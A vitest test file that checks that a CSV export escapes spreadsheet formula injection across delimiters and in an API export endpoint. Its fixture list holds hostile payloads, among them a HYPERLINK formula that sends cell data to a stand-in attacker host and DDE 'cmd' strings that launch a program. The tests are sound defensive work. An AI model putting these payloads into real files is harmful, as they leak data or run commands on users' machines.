// Exports that run nothing: a text that a spreadsheet would take for a formula is kept from it, in every separator it may use.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvLine } from '../../runtime/core/csv-line.ts';
import { openWorld, type World } from '../api/world.ts';

const formulas = [
  '=HYPERLINK("http://evil.example?"&A1)',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1)',
  '  =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  'a;=1+1',
  'a\t=1+1',
  'a,"=1+1',
  'a\n=1+1',
  'a;"=1+1',
  'a;\n-1+cmd|x',
  '\u200b=1+1',
  '\u0001=1+1',
  '\ufeff@SUM(1)',
  'a;\u200e=1+1',
];
const isFormula = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

describe('a line', () => {
  it.each([',', ';', '\t'])('has no cell that is a formula where %j parts cells', (delimiter) => {
    for (const text of formulas) {
      const line = csvLine(['1', text, 'z']);
      const cells = (
        parse(line, {
          delimiter,
          relax_quotes: true,
          record_delimiter: ['\r\n', '\n', '\r'],
          relax_column_count: true,
        }) as string[][]
      ).flat();
      // Where the comma does not part cells, the whole line is one.
      expect([text, cells.filter((cell) => isFormula.test(cell))]).toEqual([text, []]);
    }
  });
  it('leaves numbers and harmless words as they are', () => {
    expect(csvLine(['-12.50', '+3', '1,234.5', 'rice', 'a-b=c', '- a; - b', '大米', 'ဆန်'])).toBe(
      '-12.50,+3,"1,234.5",rice,a-b=c,"\'- a; - b",大米,ဆန်\r\n',
    );
  });
});

describe('an export', () => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld();
  });
  afterAll(() => world.close());

  it('holds what somebody typed, and none of it runs', async () => {
    const { id: companyId } = world.companies.trader;
    const typed = formulas.filter((text) => text.length >= 3);
    for (const name of typed)
      await world.insert('business-partner', {
        companyId,
        type: 'customer',
        name,
        contact: 'Ma',
        phone: '13800000100',
      });
    const session = await world.logIn('trader');
    const cookie = `tongguan_session=${session}`;
    const answer = await world.raw({
      method: 'GET',
      url: '/api/entities/business-partner/export',
      headers: { cookie },
    });
    expect([answer.statusCode, String(answer.headers['content-type'])]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(String(answer.headers['content-disposition'])).toMatch(/^attachment; /);
    const rows = parse(answer.body, { bom: true }) as string[][];
    expect(rows).toHaveLength(typed.length + 1);
    expect(rows.flat().filter((cell) => isFormula.test(cell) && !/^[+-][\d.,]+$/.test(cell))).toEqual([]);
    expect(rows.flat().filter((cell) => cell.includes('HYPERLINK'))).toEqual([`'${formulas[0]}`]);
  });
});
